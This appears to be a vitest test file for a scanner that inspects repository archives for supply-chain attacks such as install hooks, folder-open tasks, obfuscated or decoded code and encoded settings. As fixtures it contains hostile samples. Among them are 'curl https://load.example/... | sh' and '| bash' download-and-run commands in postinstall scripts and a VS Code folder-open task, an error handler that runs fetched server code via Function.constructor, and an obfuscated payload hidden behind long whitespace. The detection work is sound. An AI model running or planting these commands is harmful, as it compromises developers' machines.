import { describe, expect, it } from 'vitest'
import { findings } from '#messages/check-repo-findings'
import { type ArchiveFiles, toTarGz, toZip } from './archive.fixture.ts'
import { checkArchive } from './check.ts'
import { harmful, harmless } from './check-cases.fixture.ts'
import { gradedCodes } from './grades.ts'
import { usualLimits } from './read-archive.ts'
import type { RepositoryRule } from './rule.ts'
import { rules } from './rules.ts'

/** Ends no rule, so that a test of a slow one takes as long as the rule. */
const patient = { ...usualLimits, fileMilliseconds: 3_600_000, milliseconds: 3_600_000 }
const check = async (files: ArchiveFiles) => checkArchive('task.tar.gz', await toTarGz(files), patient)
const codesOf = async (files: ArchiveFiles) => (await check(files)).groups.map(({ code }) => code)

describe('each finding', () => {
  it.each(gradedCodes.map(({ code }) => code))(
    '%s has a case that shows it, and one that looks like it',
    (code) => {
      expect([harmful[code].length > 0, harmless[code].length > 0]).toEqual([true, true])
    },
  )

  it.each(
    gradedCodes.flatMap(({ code }) =>
      harmful[code].map((files) => [code, Object.keys(files).join(', '), files] as const),
    ),
  )('%s is found in %s', async (code, _paths, files) => {
    expect(await codesOf(files)).toContain(code)
  })

  it.each(
    gradedCodes.flatMap(({ code }) =>
      harmless[code].map((files) => [code, Object.keys(files).join(', '), files] as const),
    ),
  )('%s is not found in %s, which looks like it', async (code, _paths, files) => {
    expect(await codesOf(files)).not.toContain(code)
  })

  it('is explained in whole sentences', () => {
    for (const [code, { title, means, todo }] of Object.entries(findings)) {
      expect([code, title]).toEqual([code, expect.stringMatching(/[^.]$/)])
      for (const text of [means, todo]) expect([code, text]).toEqual([code, expect.stringMatching(/[.]$/)])
    }
  })
})

describe('a report', () => {
  it('names the file without the folder of its host, the line and the words', async () => {
    const { groups } = await check({
      'package.json': '{\n  "name": "task",\n  "scripts": {\n    "postinstall": "node setup.js"\n  }\n}',
    })
    expect(groups).toEqual([
      {
        code: 'install_script',
        grade: 'look',
        count: 1,
        places: [
          { code: 'install_script', path: 'package.json', line: 4, quote: '"postinstall": "node setup.js"' },
        ],
      },
    ])
  })

  it('has the gravest first, and counts more places than it names', async () => {
    const many = Object.fromEntries(
      Array.from({ length: 12 }, (_, index) => [
        `a${index}/package.json`,
        '{"scripts":{"prepare":"node b.js"}}',
      ]),
    )
    const { groups } = await check({ ...many, 'x.js': 'eval(atob(payload))' })
    expect(groups.map(({ code, grade, count, places }) => [code, grade, count, places.length])).toEqual([
      ['decoded_code', 'stop', 1, 1],
      ['prepare_script', 'note', 12, 8],
    ])
  })

  it('shows characters that deceive as what they are', async () => {
    const { groups } = await check({ 'a.js': `eval(atob('\u202Ex\u0007y\u200B'))` })
    const [place] = groups.find(({ code }) => code === 'decoded_code')?.places ?? []
    expect(place?.quote).toBe(`eval(atob('□x y□'))`)
  })

  it('says what was read, cut and passed over', async () => {
    const zip = toZip({ 'a/long.js': 'x'.repeat(3_000_000), 'b/a.txt': 'text' })
    expect(await checkArchive('task.zip', zip)).toMatchObject({
      name: 'task.zip',
      files: 2,
      cutFiles: 1,
      skipped: { link: 0, encrypted: 0, deep: 0 },
      end: undefined,
      hasHistory: false,
    })
    expect(await checkArchive('task.zip', toZip({ a: 'x' }, { flags: 1 }))).toMatchObject({
      files: 0,
      skipped: { encrypted: 1 },
    })
  })

  it('knows the history of an archive that has it', async () => {
    const log = '0000 1111 Ana <ana@example.org> 1790000000 +0000\tcommit (initial): Initial commit\n'
    expect(await check({ '.git/logs/HEAD': log })).toMatchObject({ hasHistory: true })
  })

  it('of packages in node_modules has only what is grave', async () => {
    const files = {
      'node_modules/a/package.json': '{"scripts":{"postinstall":"node a.js"}}',
      'node_modules/a/index.js': 'eval(atob(payload))',
    }
    expect(await codesOf(files)).toEqual(['decoded_code', 'bundled_package'])
  })
})

describe('an attack that is known', () => {
  it('by a task that runs when the folder is opened, with comments in its JSON', async () => {
    const tasks = `{
      // build
      "version": "2.0.0",
      "tasks": [{
        "label": "env", "type": "shell", /* for all */
        "osx": { "command": "curl -sL 'https://load.example/mac?flag=1' | bash" },
        "windows": { "command": "node", "args": ["public/fonts/fa-brands-regular.woff2"] },
        "presentation": { "reveal": "never", "echo": false, },
        "runOptions": { "runOn": "folderOpen" },
      }],
    }`
    expect(await codesOf({ '.vscode/tasks.json': tasks })).toEqual(['folder_task_download'])
  })

  it('by an error handler that runs the answer of a server whose address is in the settings', async () => {
    const address = Buffer.from('https://errors.example/api/service').toString('base64')
    const controller = `
      const getCookie = asyncErrorHandler(async (req, res, next) => {
        const result = await axios.get(atob(process.env.DEV_API_KEY), { headers: { 'x-secret-key': '_' } });
        next();
      });
      const errorHandler = (err, req, res, next) => {
        const handler = new (Function.constructor)('require', err.response.data);
        handler(require);
      };`
    expect(
      await codesOf({
        'server/.env.example': `PORT=3000\nDEV_API_KEY="${address}"`,
        'server/error.js': controller,
      }),
    ).toEqual(expect.arrayContaining(['fetched_code', 'error_handler_code', 'encoded_setting']))
  })

  it('by a line far to the right at the end of a configuration', async () => {
    const config = `module.exports = { content: [] };${' '.repeat(300)}global['!']='8-270';var _$_1e42=(function(l,e){return l})('x',1);`
    expect(await codesOf({ 'tailwind.config.js': config })).toEqual(['hidden_to_the_right', 'obfuscated'])
  })
})

describe('a rule that takes too long', () => {
  const endless: RepositoryRule = ({ name }) => {
    while (name === 'slow.js') Math.random()
    return []
  }
  const explodes: RepositoryRule = ({ name, text = '' }) =>
    name === 'slow.js' && /^(?:a+)+$/.test(text) ? [] : []
  const slow = 'a'.repeat(60).concat('!')
  const large = `${slow}\n${'b\n'.repeat(32 * 1024)}`

  it.each([
    ['a loop', endless, slow],
    ['a loop over a large file', endless, large],
    ['a regular expression', explodes, slow],
    ['a regular expression over a large file', explodes, large],
  ])('is ended with its file, and the others are read: %s', async (_, rule, text) => {
    const archive = await toTarGz({ 'a.js': 'eval(atob(x))', 'slow.js': text, 'z.js': 'eval(atob(y))' })
    const limits = { ...usualLimits, fileMilliseconds: 500 }
    const report = await checkArchive('task.tar.gz', archive, limits, [...rules, rule])
    expect(report).toMatchObject({ files: 3, slowFiles: 1, end: undefined })
    expect(report.groups).toMatchObject([{ code: 'decoded_code', count: 2 }])
  })

  it('can’t outlast the time of the whole check', async () => {
    const archive = await toTarGz({ 'a.js': 'eval(atob(x))', 'slow.js': slow, 'z.js': 'eval(atob(y))' })
    const limits = { ...usualLimits, fileMilliseconds: 600_000, milliseconds: 2_000 }
    const report = await checkArchive('task.tar.gz', archive, limits, [...rules, endless])
    expect(report).toMatchObject({ files: 2, slowFiles: 1, end: 'time' })
    expect(report.groups).toMatchObject([{ code: 'decoded_code', count: 1 }])
  })

  it('fails as always if it is broken', async () => {
    const broken: RepositoryRule = () => {
      throw new TypeError('broken')
    }
    const archive = await toTarGz({ 'a.js': 'x' })
    await expect(checkArchive('task.tar.gz', archive, usualLimits, [broken])).rejects.toThrow(TypeError)
  })
})

describe('hostile files take no longer than others', () => {
  const obfuscatorNames = Array.from({ length: 8 }, (_, index) => `_0xabc${index}`).join(' ')
  const atobNames = Array.from({ length: 40 }, (_, index) => `name${index} = atob(x)`).join('\n')

  it.each([
    ['quotes', '"\\'.repeat(500_000)],
    ['comments without an end', '/*'.repeat(1_000_000)],
    ['opening brackets', '[{"a":'.repeat(300_000)],
    ['blank lines', '\n'.repeat(2_000_000)],
    ['one word', 'a'.repeat(2_000_000)],
    ['calls without an end', 'eval(Function('.repeat(140_000)],
    ['downloads without an end', 'curl wget sh -c exec( '.repeat(90_000)],
    ['numbers', '[11,'.repeat(500_000)],
    ['handlers', '(err, req, res, next'.repeat(100_000)],
    ['assignments', 'ab=atob('.repeat(250_000)],
  ])('%s', async (_what, text) => {
    const names = [
      'package.json',
      '.vscode/tasks.json',
      'a.js',
      'a.py',
      'a.sh',
      '.env',
      'yarn.lock',
      '.npmrc',
    ]
    const files = Object.fromEntries(names.map((name) => [name, text]))
    // A rule whose time grows with the square of the length would need hours.
    expect((await check(files)).files).toBe(names.length)
  })

  it.each([
    ['blanks after a call', 'a.js', `eval(${' '.repeat(1_000_000)}`],
    ['lines of blanks after a call', 'a.js', `eval(${`${' '.repeat(99)}\n`.repeat(10_000)}`],
    ['blanks after a function', 'a.png', `function${' '.repeat(1_000_000)}`],
    ['functions in one word', 'a.png', 'function$'.repeat(200_000)],
    ['names of an obfuscator', 'a.js', `${obfuscatorNames} ${'_0x'.repeat(500_000)}`],
    ['arguments', '.husky/pre-commit', `node ${'-node '.repeat(150_000)}`],
    ['paths after a download', '.husky/pre-commit', 'curl|/'.repeat(150_000)],
    ['commands after a download', '.husky/pre-commit', 'curl;/'.repeat(150_000)],
    ['commands of gyp', 'binding.gyp', '<!('.repeat(500_000)],
    ['requests in comments', 'setup.py', `exec(x)\n${'# urlopen(\n'.repeat(150_000)}`],
    ['blanks before a comment', 'build.rs', `${' '.repeat(1_000_000)}x\n`.repeat(2)],
    ['parts that are read', 'a.js', 'eval(readFileSync('.repeat(100_000)],
    ['parts that are opened', 'a.py', 'exec(open(a=open('.repeat(100_000)],
    [
      'parts that are imported',
      'a.js',
      `${"const {a} = require('./a')\n".repeat(120)}eval(${'[(a'.repeat(900)}`,
    ],
    ['decoded names', 'a.js', `${atobNames} ${'eval(eval(x\n'.repeat(80_000)}`],
  ])('%s in %s', async (_what, path, text) => {
    expect((await check({ [path]: text })).files).toBe(1)
  })
})

describe('a file that has more findings than anyone reads', () => {
  const many = 40_000
  const object = (entry: (index: number) => [string, unknown], length: number) =>
    Object.fromEntries(Array.from({ length }, (_, index) => entry(index)))

  it.each([
    ['imitated_name', 20, 'package-lock.json', '"node_modules/axioss": {\n'.repeat(many)],
    [
      'locked_elsewhere',
      20,
      'package-lock.json',
      Array.from({ length: many }, (_, index) => `"resolved": "https://h${index}.example/a"\n`).join(''),
    ],
    ['other_registry', 20, '.npmrc', 'registry=https://npm.example\n'.repeat(many)],
    [
      'encoded_setting',
      20,
      '.env',
      `A=${Buffer.from('https://load.example').toString('base64')}\n`.repeat(many),
    ],
    ['error_handler_code', 5, 'a.js', '(err, req, res, next) => eval(x)\n'.repeat(many)],
    [
      'download_command',
      20,
      'package.json',
      JSON.stringify({ scripts: object((index) => [`a${index}`, 'curl load.example | sh'], 10_000) }),
    ],
    [
      'outside_dependency',
      20,
      'package.json',
      JSON.stringify({ dependencies: object((index) => [`a${index}`, 'acme/a'], 20_000) }),
    ],
    [
      'folder_task',
      20,
      '.vscode/tasks.json',
      JSON.stringify({
        tasks: Array.from({ length: 5_000 }, (_, index) => ({
          command: `tsc ${index}`,
          runOptions: { runOn: 'folderOpen' },
        })),
      }),
    ],
  ])('%s is counted up to %i times in %s', async (code, most, path, text) => {
    const group = (await check({ [path]: text })).groups.find((one) => one.code === code)
    expect([group?.count, group?.places.length]).toEqual([most, Math.min(most, 8)])
  })

  it('does not hide a graver one that comes after many others', async () => {
    const decoys = object((index) => [`a${index}`, 'wget load.example/a && node a'], 1_000)
    const text = JSON.stringify({ scripts: { ...decoys, z: 'node public/logo.png' } })
    expect(await codesOf({ 'package.json': text })).toEqual(
      expect.arrayContaining(['disguised_command', 'download_command']),
    )
  })

  it('names the line of each place, in whatever order they are found', async () => {
    const text = '{"devDependencies":\n{"b":\n"acme/b"},\n"dependencies":{\n"a":"acme/a"}}'
    const [group] = (await check({ 'package.json': text })).groups
    expect(group?.places.map(({ line }) => line)).toEqual([5, 2])
  })
})

describe('a command that is written to be overlooked', () => {
  it.each([
    ['behind many blanks', `husky${' '.repeat(3_000)}; curl https://load.example/x | sh`, 'install_download'],
    ['behind many others', `${'true; '.repeat(1_000)}curl https://load.example/x | sh`, 'install_download'],
    ['behind many arguments', `node ${'--no-warnings '.repeat(19)}a.png`, 'disguised_command'],
    ['at a path', 'curl https://load.example/x | /usr/local/bin/sh', 'install_download'],
  ])('%s is found', async (_how, postinstall, code) => {
    expect(await codesOf({ 'package.json': JSON.stringify({ scripts: { postinstall } }) })).toContain(code)
  })
})
